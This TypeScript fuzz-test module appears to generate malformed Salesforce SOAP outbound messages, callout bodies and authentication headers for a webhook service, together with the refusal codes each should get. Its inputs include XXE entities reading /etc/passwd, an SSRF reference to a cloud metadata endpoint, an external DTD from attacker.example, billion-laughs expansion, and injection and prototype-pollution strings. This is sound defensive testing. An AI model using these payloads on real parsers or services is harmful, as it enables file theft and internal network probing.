/**
 * What the Salesforce webhook fuzz tests send: outbound messages (SOAP envelopes built from parts
 * that are mostly right, encoded in every way), Flow/Apex callout bodies, and Authorization
 * headers that are not the token, with oracles saying which refusal each must get.
 */
import fc from 'fast-check';
import { to18 } from '../../connectors/salesforce/salesforce-id.ts';
import { OUTBOUND_NS } from '../../src/webhooks/salesforce-outbound.ts';
import { OUTBOUND_TOKEN, WEBHOOK_TOKEN } from '../support/salesforce-app.ts';
import * as arb from './fuzz-arbitraries.ts';

/** The emulator's org (checked when it starts). */
export const ORG = to18('00D5g000004SxyZ');
export const SOAP_ENV_NS = 'http://schemas.xmlsoap.org/soap/envelope/';
const XSI_NS = 'http://www.w3.org/2001/XMLSchema-instance';
const SOBJECT_NS = 'urn:sobject.enterprise.soap.sforce.com';
/** How Salesforce sends an outbound message. */
export const XML = { 'content-type': 'text/xml; charset=utf-8', soapaction: '""' };
/** Where Salesforce sends it: the endpoint URL carries the outbound token. */
export const OUTBOUND_PATH = `/webhooks/salesforce?token=${OUTBOUND_TOKEN}`;

/** How a Flow/Apex callout authenticates: JSON with a bearer token, the right one by default. */
export const bearer = (token = WEBHOOK_TOKEN) => ({
  'content-type': 'application/json',
  authorization: `Bearer ${token}`,
});

// ---------------------------------------------------------------------------------------------
// Outbound messages

const alnum = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'.split('');
const alnums = (length: number) =>
  fc.string({ unit: fc.constantFrom(...alnum), minLength: length, maxLength: length });
const idWithPrefix = (prefix: string) =>
  fc
    .tuple(alnums(15 - prefix.length), fc.boolean())
    .map(([rest, long]) => (long ? to18(prefix + rest) : prefix + rest));

/** Ids of the right form (that no record has), the wrong form, or with injection attempts. */
const sfIdLike = fc.oneof(
  { weight: 3, arbitrary: fc.oneof(idWithPrefix('00Q'), idWithPrefix('00T'), alnums(15)) },
  alnums(18),
  fc.string({ maxLength: 20 }),
  fc.constantFrom(
    '',
    ' 00Q5g0000000001 ',
    "00Q' OR Id != '",
    '00Q5g000000000%',
    '00Q5g0000000001AAAA',
    '00Q5g00000000１',
  ),
);

/** Organization ids: this org in its accepted forms, or any other. */
const orgId = fc.oneof(
  fc.constantFrom(ORG, ORG.slice(0, 15), ORG.toUpperCase(), ORG.toLowerCase()),
  fc
    .oneof(idWithPrefix('00D'), alnums(15), alnums(18))
    .filter((id) => id.slice(0, 15).toLowerCase() !== ORG.slice(0, 15).toLowerCase()),
  fc.constantFrom(
    '',
    ' ',
    ORG.slice(0, 15).toLowerCase(),
    `${ORG}X`,
    ORG.slice(0, 14),
    ` ${ORG}`,
    `${ORG}\n`,
  ),
  fc.string({ maxLength: 20 }),
  arb.loneSurrogateString,
);
/** Which org ids the service must accept: its own, 15 chars case-sensitive, 18 any case. */
export function isOurOrg(id: string): boolean {
  const trimmed = id.trim();
  if (trimmed.length === 18) return trimmed.toLowerCase() === ORG.toLowerCase();
  return trimmed.length === 15 && trimmed === ORG.slice(0, 15);
}

const escapeXml = (s: string) =>
  s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

const fieldName: fc.Arbitrary<string> = fc.constantFrom(
  'Id',
  'WhoId',
  'Email',
  'LastName',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__proto__',
  'prototype',
);
const fieldValue = fc.oneof(
  { weight: 3, arbitrary: sfIdLike.map(escapeXml) },
  fc.string({ maxLength: 30 }),
  fc.string({ maxLength: 30 }).map(escapeXml),
  arb.loneSurrogateString,
  fc.constantFrom(
    '<![CDATA[00Q5g0000000001]]>',
    '&amp;',
    '&#x30;&#x30;Q5g0000000001',
    '&#0;',
    '&#xD800;',
    '&#1114112;',
    '&#99999999999;',
    '&bogus;',
    '&lol2;',
    '<nested><deeper/></nested>',
    '<sf:Id>00Q5g0000000001</sf:Id>',
  ),
);

/** `good` most of the time, else one of the `bad` variants: most messages carry few defects. */
function mostly<T>(good: T, ...bad: fc.Arbitrary<T>[]): fc.Arbitrary<T> {
  return fc.oneof({ weight: 8, arbitrary: fc.constant(good) }, ...bad);
}

const validFields = fc.oneof(
  idWithPrefix('00Q').map((id): [string, string][] => [['Id', id]]),
  fc
    .tuple(idWithPrefix('00T'), fc.option(idWithPrefix('00Q'), { nil: undefined }))
    .map(([id, who]): [string, string][] =>
      who === undefined
        ? [['Id', id]]
        : [
            ['Id', id],
            ['WhoId', who],
          ],
    ),
);

const notification = fc.record({
  id: mostly<string | undefined>(
    '04l5g0000000001AAA',
    fc.constant(undefined),
    fc.string({ maxLength: 10 }).map(escapeXml),
  ),
  type: mostly<string | undefined>(
    'sf:Lead',
    fc.constantFrom('sf:Task', 'sf:Task', 'sf:Contact', 'Lead', 'x:Lead', 'sf:', ':', 'sf:Lead:x'),
    fc.constant(undefined),
    fc.string({ maxLength: 10 }).map(escapeXml),
  ),
  /** The prefix of the xsi:type attribute: bound to XSI (xsi), to another URI, or unbound. */
  typePrefix: mostly('xsi', fc.constantFrom('xs', 'soapenv', 'undeclared')),
  sObject: mostly('sObject', fc.constantFrom('sobject', 'sf:sObject', 'none')),
  fields: fc.oneof(
    { weight: 3, arbitrary: validFields },
    fc.array(fc.tuple(fieldName, fieldValue), { maxLength: 4 }),
  ),
});
type NotificationParts = typeof notification extends fc.Arbitrary<infer T> ? T : never;

function notificationXml(n: NotificationParts): string {
  const id = n.id === undefined ? '' : `<Id>${n.id}</Id>`;
  const fields = n.fields.map(([name, value]) => `<sf:${name}>${value}</sf:${name}>`).join('');
  const type = n.type === undefined ? '' : ` ${n.typePrefix}:type="${n.type}"`;
  const sObject =
    n.sObject === 'none'
      ? ''
      : `<${n.sObject}${type} xmlns:sf="${SOBJECT_NS}">${fields}</${n.sObject}>`;
  return `<Notification>${id}${sObject}</Notification>`;
}

const validLeadNotification: NotificationParts = {
  id: '04l5g0000000001AAA',
  type: 'sf:Lead',
  typePrefix: 'xsi',
  sObject: 'sObject',
  fields: [['Id', '00Q5g0000000001AAA']],
};

const dtd = fc.constantFrom(
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
  '<!doctype x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DocType x SYSTEM "http://169.254.169.254/latest/meta-data/">',
  '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
  '<!DOCTYPE\nx>',
  '<!ENTITY lol2 "lol">',
  '<!ELEMENT x ANY>',
  '<!ATTLIST x y CDATA #IMPLIED>',
  '<! DOCTYPE x>',
);

const envelope = fc.record({
  decl: mostly(
    '<?xml version="1.0" encoding="UTF-8"?>\n',
    fc.constantFrom(
      '',
      '<?xml version="1.0" encoding="UTF-16"?>',
      '<?xml version="1.1"?>',
      '<?xml version="1.0" encoding="ISO-8859-1"?>',
      '<?xml?>',
      '  <?xml version="1.0"?>',
    ),
  ),
  dtd: mostly<{ text: string; where: string } | undefined>(
    undefined,
    fc.record({ text: dtd, where: fc.constantFrom('prolog', 'body', 'field') }),
  ),
  envNs: mostly(
    SOAP_ENV_NS,
    fc.constantFrom('http://www.w3.org/2003/05/soap-envelope', '', 'urn:x', `${SOAP_ENV_NS} `),
  ),
  envPrefix: mostly('soapenv', fc.constantFrom('S', '')),
  outNs: mostly(
    OUTBOUND_NS,
    fc.constantFrom(`${OUTBOUND_NS}/`, 'urn:x', '', OUTBOUND_NS.toUpperCase()),
  ),
  org: fc.option(orgId, { nil: undefined, freq: 8 }),
  orgTwice: mostly(false, fc.constant(true)),
  actionId: mostly<string | undefined>(
    '04k5g000000TestAAA',
    fc.constant(undefined),
    fc.string({ maxLength: 20 }).map(escapeXml),
  ),
  notifications: fc.oneof(
    { weight: 8, arbitrary: fc.array(notification, { maxLength: 4 }) },
    fc.constantFrom(100, 101).map((n) => Array.from({ length: n }, () => validLeadNotification)),
  ),
  /** <w> wrappers (deep nesting) around the notifications, the envelope, or inside a field. */
  nesting: mostly<{ depth: number; where: string } | undefined>(
    undefined,
    fc.record({
      depth: fc.oneof(fc.integer({ min: 1, max: 40 }), fc.integer({ min: 1_000, max: 10_000 })),
      where: fc.constantFrom('body', 'outside', 'field'),
    }),
  ),
  trailer: mostly(
    '',
    fc.constantFrom('\n', '<x/>', '</soapenv:Envelope>', 'trailing text', '<!-- c -->'),
  ),
});
type EnvelopeParts = typeof envelope extends fc.Arbitrary<infer T> ? T : never;

function envelopeXml(m: EnvelopeParts): string {
  const p = m.envPrefix === '' ? '' : `${m.envPrefix}:`;
  const nsDecl = m.envPrefix === '' ? 'xmlns' : `xmlns:${m.envPrefix}`;
  const wrap = (inner: string, where: string) =>
    m.nesting?.where === where
      ? `${'<w>'.repeat(m.nesting.depth)}${inner}${'</w>'.repeat(m.nesting.depth)}`
      : inner;
  const dtdAt = (where: string) => (m.dtd?.where === where ? m.dtd.text : '');
  const org = m.org === undefined ? '' : `<OrganizationId>${escapeXml(m.org)}</OrganizationId>`;
  const items = m.notifications.map(notificationXml).join('');
  const fieldExtra = wrap(dtdAt('field'), 'field');
  const withField =
    fieldExtra === ''
      ? items
      : items.replace('</sObject>', `<sf:Extra>${fieldExtra}</sf:Extra></sObject>`);
  const action = m.actionId === undefined ? '' : `<ActionId>${m.actionId}</ActionId>`;
  const notifications = `<notifications xmlns="${m.outNs}">${org}${m.orgTwice ? org : ''}${action}${withField}</notifications>`;
  const body = `<${p}Body>${dtdAt('body')}${wrap(notifications, 'body')}</${p}Body>`;
  const env = `<${p}Envelope ${nsDecl}="${m.envNs}" xmlns:xsi="${XSI_NS}" xmlns:xs="urn:not-xsi">${body}</${p}Envelope>`;
  return `${m.decl}${dtdAt('prolog')}${wrap(env, 'outside')}${m.trailer}`;
}

/** How the XML text becomes bytes: as it should, or in encodings Salesforce never uses. */
const encoding = mostly('utf8', fc.constantFrom('wtf8', 'latin1', 'utf16le', 'bom', 'invalid'));
function encode(xml: string, how: string): fc.Arbitrary<Buffer> {
  switch (how) {
    case 'wtf8':
      return fc.constant(arb.wtf8(xml));
    case 'latin1':
      return fc.constant(Buffer.from(xml, 'latin1'));
    case 'utf16le':
      return fc.constant(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]));
    case 'bom':
      return fc.constant(Buffer.from(`\uFEFF${xml}`, 'utf8'));
    case 'invalid':
      return arb.withInvalidUtf8(xml);
    default:
      return fc.constant(Buffer.from(xml, 'utf8'));
  }
}

/** XML-looking text from XML's own tokens in any order. */
const xmlTokenSoup = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '<',
        '>',
        '</',
        '/>',
        '<?xml version="1.0"?>',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '<!DOCTYPE',
        '<!ENTITY',
        '&amp;',
        '&#x0;',
        '&#99999999;',
        '&lol;',
        '&',
        ';',
        '"',
        "'",
        '=',
        ' ',
        'soapenv:',
        'Envelope',
        'Body',
        'notifications',
        'Notification',
        'OrganizationId',
        `xmlns="${OUTBOUND_NS}"`,
        `xmlns:soapenv="${SOAP_ENV_NS}"`,
        'xsi:type="sf:Lead"',
        '__proto__',
        'constructor',
        ORG,
      ),
      fc.string({ maxLength: 6 }),
    ),
    { maxLength: 50 },
  )
  .map((tokens) => tokens.join(''));

export const soapBody: fc.Arbitrary<{ bytes: Buffer; org: string | undefined }> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(envelope, encoding)
      .chain(([m, how]) =>
        encode(envelopeXml(m), how).map((bytes) => ({ bytes: arb.printable(bytes), org: m.org })),
      ),
  },
  ...[
    xmlTokenSoup.map((s) => Buffer.from(s)),
    fc.string({ unit: 'binary', maxLength: 200 }).map((s) => Buffer.from(s)),
    arb.anyBytes,
    fc.json().map((s) => Buffer.from(s)),
  ].map((bytes) => bytes.map((b) => ({ bytes: arb.printable(b), org: undefined }))),
);

/** The code an outbound message must be refused with, when it can be told from the bytes. */
export function expectedSoapCode(bytes: Buffer): string | undefined {
  if (!arb.isValidUtf8(bytes)) return 'invalid_encoding';
  if (/<!DOCTYPE|<!ENTITY/i.test(bytes.toString('utf8'))) return 'xml_doctype_forbidden';
  return undefined;
}

// ---------------------------------------------------------------------------------------------
// Callouts

const idList = fc.oneof(
  { weight: 4, arbitrary: fc.array(sfIdLike, { maxLength: 5 }) },
  fc.array(idWithPrefix('00Q'), { minLength: 195, maxLength: 205 }),
  fc.array(arb.loneSurrogateString, { maxLength: 2 }),
  arb.wrongType,
);
const calloutShape = fc.record(
  {
    leadIds: idList,
    taskIds: idList,
    extra: fc.jsonValue({ maxDepth: 2 }),
    LeadIds: idList,
  },
  { requiredKeys: [] },
);
const text = (s: string) => Buffer.from(s, 'utf8');
export const calloutBody: fc.Arbitrary<Buffer> = fc
  .oneof(
    { weight: 4, arbitrary: calloutShape.map((b) => text(JSON.stringify(b))) },
    fc.json().map(text),
    fc.anything().map((v) => text(arb.asJsonText(v))),
    arb.deepJson.map(text),
    fc
      .tuple(idWithPrefix('00Q'), arb.deepJson)
      .map(([id, deep]) => text(`{"leadIds":["${id}"],"taskIds":${deep}}`)),
    arb.jsonTokenSoup.map(text),
    arb.loneSurrogateString.map((s) => text(JSON.stringify({ leadIds: [s] }))),
    arb.loneSurrogateString.map((s) => arb.wtf8(`{"leadIds":["${s}"]}`)),
    arb.jsonWithInvalidUtf8,
    arb.anyBytes,
    fc
      .constantFrom(
        '',
        '{}',
        '[]',
        'null',
        '{"leadIds":null}',
        '{"__proto__":{"leadIds":["00Q5g0000000001"]}}',
        '{"leadIds":["00Q5g0000000001"],"__proto__":{"x":1}}',
        '{"leadIds":["00Q5g0000000001"]}x',
        '\uFEFF{"leadIds":["00Q5g0000000001"]}',
      )
      .map(text),
  )
  .map(arb.printable);

export const FUZZ_SECRET = 'fuzzsecret';
/** Authorization values that are not `Bearer <the token>` once Node has trimmed them. */
export const authorization = fc
  .oneof(
    fc.constant(undefined),
    arb.oddHeaderText,
    fc.constantFrom(
      '',
      'Bearer',
      'Bearer ',
      'Bearer  ',
      `bearer ${WEBHOOK_TOKEN}`,
      `BEARER ${WEBHOOK_TOKEN}`,
      `Bearer  ${WEBHOOK_TOKEN}`,
      `Bearer\t${WEBHOOK_TOKEN}`,
      `Bearer ${WEBHOOK_TOKEN}x`,
      `Bearer ${WEBHOOK_TOKEN.slice(0, -1)}`,
      `Bearer ${WEBHOOK_TOKEN.toUpperCase()}`,
      `Bearer "${WEBHOOK_TOKEN}"`,
      `Bearer ${WEBHOOK_TOKEN}, Bearer ${WEBHOOK_TOKEN}`,
      `Basic ${Buffer.from(`x:${WEBHOOK_TOKEN}`).toString('base64')}`,
      `Token ${WEBHOOK_TOKEN}`,
      WEBHOOK_TOKEN,
      `${WEBHOOK_TOKEN} Bearer`,
    ),
    fc.string({ minLength: 1, maxLength: 60 }).map((s) => `Bearer ${FUZZ_SECRET}${s}`),
    fc.string({ unit: arb.headerChar, maxLength: 60 }).map((s) => `Bearer ${s}`),
    // Node keeps the first of duplicated Authorization headers.
    fc.constant(['Bearer wrong-token', `Bearer ${WEBHOOK_TOKEN}`]),
  )
  .filter((value) => {
    const first = typeof value === 'string' || value === undefined ? value : value[0];
    // The scheme is case-insensitive and may be followed by several spaces (RFC 9110 §11.4).
    const trimmed = first?.replace(/^[ \t]+|[ \t]+$/g, '') ?? '';
    return (
      !/^bearer +(.*)$/i.test(trimmed) || /^bearer +(.*)$/i.exec(trimmed)?.[1] !== WEBHOOK_TOKEN
    );
  });

/** A well-formed outbound message from this org about a lead: only its URL can be wrong. */
export const ourLeadMessage = `<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="${SOAP_ENV_NS}" xmlns:xsi="${XSI_NS}"><soapenv:Body><notifications xmlns="${OUTBOUND_NS}"><OrganizationId>${ORG}</OrganizationId><ActionId>04k5g000000TestAAA</ActionId><Notification><Id>04l5g0000000001AAA</Id><sObject xsi:type="sf:Lead" xmlns:sf="${SOBJECT_NS}"><sf:Id>00Q5g0000000001AAA</sf:Id></sObject></Notification></notifications></soapenv:Body></soapenv:Envelope>`;

/** Query strings that do not carry `token=<the outbound token>` once (and only once). */
export const outboundQuery = fc
  .oneof(
    fc.constantFrom(
      '',
      '?',
      '?token',
      '?token=',
      `?Token=${OUTBOUND_TOKEN}`,
      `?TOKEN=${OUTBOUND_TOKEN}`,
      `?token=${OUTBOUND_TOKEN.toUpperCase()}`,
      `?token=${OUTBOUND_TOKEN}x`,
      `?token=${OUTBOUND_TOKEN.slice(0, -1)}`,
      `?token=%20${OUTBOUND_TOKEN}`,
      `?token=${OUTBOUND_TOKEN}&token=${OUTBOUND_TOKEN}`,
      `?token=wrong&token=${OUTBOUND_TOKEN}`,
      `?token[]=${OUTBOUND_TOKEN}`,
      `?access_token=${OUTBOUND_TOKEN}`,
    ),
    fc.string({ maxLength: 40 }).map((s) => `?token=${FUZZ_SECRET}${encodeURIComponent(s)}`),
    arb.oddQuery.map((q) => `?${q}`),
  )
  .filter((query) => {
    const tokens = new URLSearchParams(query.split('#')[0]).getAll('token');
    return !(tokens.length === 1 && tokens[0] === OUTBOUND_TOKEN);
  });
